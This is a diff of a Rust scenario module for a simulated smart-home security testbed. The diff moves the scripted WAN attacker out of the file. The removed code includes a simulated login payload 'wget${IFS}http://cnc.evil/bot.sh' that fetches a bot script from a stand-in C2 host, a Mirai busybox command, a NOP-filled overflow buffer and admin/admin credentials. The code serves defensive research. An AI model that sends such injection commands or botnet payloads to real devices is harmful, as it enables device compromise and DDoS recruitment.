@@ -3,10 +3,11 @@
 //!
 //! Every scenario is deterministic: same seed → identical trace.
 
-use xlf_core::framework::{HomeDevice, XlfConfig, XlfHome};
-use xlf_core::shaping::ShapingMode;
-use xlf_device::{SensorKind, VulnSet, Vulnerability};
-use xlf_simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime, TimerId};
+use xlf_attacks::scripted::{self, ScriptedAttack};
+use xlf_cloud::smartapp::SmartApp;
+use xlf_core::framework::{XlfConfig, XlfHome};
+use xlf_fleet::spec::{standard_devices, LEARNING_END_S};
+use xlf_simnet::{Duration, Medium, SimTime};
 
 /// The attack injected into a scenario run.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
@@ -47,164 +48,39 @@ impl AttackScenario {
             AttackScenario::SpoofedEvents => Some("window"),
         }
     }
-}
 
-/// The standard experimental home: thermostat, weak camera, wall pad
-/// (overflow-vulnerable), lamp, and a window actuator.
-pub fn standard_devices() -> Vec<HomeDevice> {
-    vec![
-        HomeDevice::new("thermo", SensorKind::Temperature)
-            .with_telemetry_period(Duration::from_secs(10)),
-        HomeDevice::new("cam", SensorKind::Camera)
-            .with_vulns(VulnSet::of(&[
-                Vulnerability::StaticPassword,
-                Vulnerability::UnsignedFirmware,
-            ]))
-            .with_telemetry_period(Duration::from_secs(10)),
-        HomeDevice::new("wallpad", SensorKind::Motion)
-            .with_vulns(VulnSet::of(&[Vulnerability::BufferOverflow]))
-            .with_telemetry_period(Duration::from_secs(15)),
-        HomeDevice::new("lamp", SensorKind::Power).with_telemetry_period(Duration::from_secs(20)),
-        HomeDevice::new("window", SensorKind::Power).with_telemetry_period(Duration::from_secs(20)),
-    ]
-}
-
-/// When the learning phase ends and the attack fires.
-pub const LEARNING_END_S: u64 = 120;
-/// When the attack is injected.
-pub const ATTACK_AT_S: u64 = 180;
-/// When the scenario run ends.
-pub const SCENARIO_END_S: u64 = 420;
-
-const TIMER_GO: u64 = 900;
-const TIMER_FLOOD_ORDER: u64 = 901;
-
-/// WAN attacker that runs the selected scenario against the home.
-struct ScenarioAttacker {
-    gateway: NodeId,
-    cloud: NodeId,
-    victim_sink: NodeId,
-    scenario: AttackScenario,
-}
-
-impl Node for ScenarioAttacker {
-    fn on_start(&mut self, ctx: &mut Context<'_>) {
-        ctx.set_timer(Duration::from_secs(ATTACK_AT_S), TIMER_GO);
-    }
-
-    fn on_timer(&mut self, ctx: &mut Context<'_>, _timer: TimerId, tag: u64) {
-        match (tag, self.scenario) {
-            (TIMER_GO, AttackScenario::BotnetRecruitFlood) => {
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
-                ctx.send(self.gateway, login);
-                ctx.set_timer(Duration::from_secs(20), TIMER_FLOOD_ORDER);
-            }
-            (TIMER_FLOOD_ORDER, AttackScenario::BotnetRecruitFlood) => {
-                let order = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "attack-cmd",
-                    b"/bin/busybox MIRAI".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("target", &self.victim_sink.raw().to_string())
-                .with_meta("count", "300");
-                ctx.send(self.gateway, order);
-            }
-            (TIMER_GO, AttackScenario::BufferOverflow) => {
-                // Exploit attempts rarely come alone: the attacker retries.
-                for i in 0..3u64 {
-                    let smash = Packet::new(ctx.id(), self.gateway, "cmd", vec![0x90u8; 300])
-                        .with_meta("device", "wallpad");
-                    ctx.send_after(self.gateway, smash, Duration::from_secs(i));
-                }
-            }
-            (TIMER_GO, AttackScenario::FirmwareTamper) => {
-                let image = xlf_device::firmware::FirmwareImage::unsigned(
-                    xlf_device::firmware::Version(9, 9, 9),
-                    "mallory",
-                    b"BOTNET implant".to_vec(),
-                );
-                for i in 0..3u64 {
-                    let ota = Packet::new(ctx.id(), self.gateway, "ota", image.to_bytes())
-                        .with_meta("device", "cam");
-                    ctx.send_after(self.gateway, ota, Duration::from_secs(i));
-                }
-            }
-            (TIMER_GO, AttackScenario::SpoofedEvents) => {
-                for i in 0..10 {
-                    let spoof = Packet::new(ctx.id(), self.cloud, "spoofed-event", Vec::new())
-                        .with_meta("device", "thermo")
-                        .with_meta("attribute", "temperature")
-                        .with_meta("value", &format!("{}", 95 + i));
-                    ctx.send(self.cloud, spoof);
-                }
-            }
-            _ => {}
+    /// The scripted WAN attack that runs this scenario, if any.
+    pub fn scripted(&self) -> Option<ScriptedAttack> {
+        match self {
+            AttackScenario::None => None,
+            AttackScenario::BotnetRecruitFlood => Some(ScriptedAttack::BotnetRecruit),
+            AttackScenario::BufferOverflow => Some(ScriptedAttack::BufferOverflow),
+            AttackScenario::FirmwareTamper => Some(ScriptedAttack::FirmwareTamper),
+            AttackScenario::SpoofedEvents => Some(ScriptedAttack::SpoofedEvents),
         }
     }
 }
 
-/// Passive WAN sink standing in for a DDoS victim.
-struct VictimSink;
-impl Node for VictimSink {}
+/// When the scenario run ends.
+pub const SCENARIO_END_S: u64 = 420;
 
-/// Builds and runs one scenario; returns the finished home (inspect the
-/// Core, gateway, and devices for outcomes).
+/// Builds and runs one scenario on the fleet's standard five-device home;
+/// returns the finished home (inspect the Core, gateway, and devices for
+/// outcomes).
 pub fn run_scenario(seed: u64, mut config: XlfConfig, scenario: AttackScenario) -> XlfHome {
     config.learning_period = Duration::from_secs(LEARNING_END_S);
     let mut home = XlfHome::build(seed, config, &standard_devices());
+    home.net
+        .node_as_mut::<xlf_cloud::CloudNode>(home.cloud)
+        .expect("cloud node")
+        .cloud_mut()
+        .install_app(SmartApp::auto_window());
 
-    // Install the §IV-C3 automation: open the window when the thermostat
-    // reports above 80°F. The diurnal simulation peaks at ~78°F, so only
-    // spoofed/manipulated readings ever fire it.
-    {
-        use xlf_cloud::smartapp::{Action, AppPermissions, Predicate, SmartApp, Trigger};
-        let cloud = home
-            .net
-            .node_as_mut::<xlf_cloud::CloudNode>(home.cloud)
-            .expect("cloud node");
-        cloud.cloud_mut().install_app(
-            SmartApp::new(
-                "auto-window",
-                AppPermissions::new().grant("window", xlf_cloud::Capability::Switch),
-            )
-            .rule(
-                Trigger {
-                    device: "thermo".into(),
-                    attribute: "temperature".into(),
-                    predicate: Predicate::GreaterThan(80.0),
-                },
-                Action {
-                    device: "window".into(),
-                    command: "on".into(),
-                },
-            ),
-        );
+    if let Some(attack) = scenario.scripted() {
+        let attacker = scripted::install(&mut home.net, home.gateway, home.cloud, attack);
+        home.net
+            .connect(attacker, home.cloud, Medium::Wan.link().with_loss(0.0));
     }
-
-    let victim = home.net.add_node(Box::new(VictimSink));
-    home.net
-        .connect(victim, home.gateway, Medium::Wan.link().with_loss(0.0));
-
-    let attacker = home.net.add_node(Box::new(ScenarioAttacker {
-        gateway: home.gateway,
-        cloud: home.cloud,
-        victim_sink: victim,
-        scenario,
-    }));
-    home.net
-        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
-    home.net
-        .connect(attacker, home.cloud, Medium::Wan.link().with_loss(0.0));
 
     home.net.run_until(SimTime::from_secs(SCENARIO_END_S));
     // Final evaluation sweep so late evidence is fused.
@@ -212,17 +88,6 @@ pub fn run_scenario(seed: u64, mut config: XlfConfig, scenario: AttackScenario) 
         .borrow_mut()
         .evaluate(SimTime::from_secs(SCENARIO_END_S));
     home
-}
-
-/// A benign-but-busy configuration used for shaping/DPI benches: full
-/// mechanisms with padding enabled.
-pub fn shaped_config(bucket: usize) -> XlfConfig {
-    let mut config = XlfConfig::full();
-    config.shaping = ShapingMode::PadAndDelay {
-        bucket,
-        max_delay: Duration::from_millis(100),
-    };
-    config
 }
 
 #[cfg(test)]
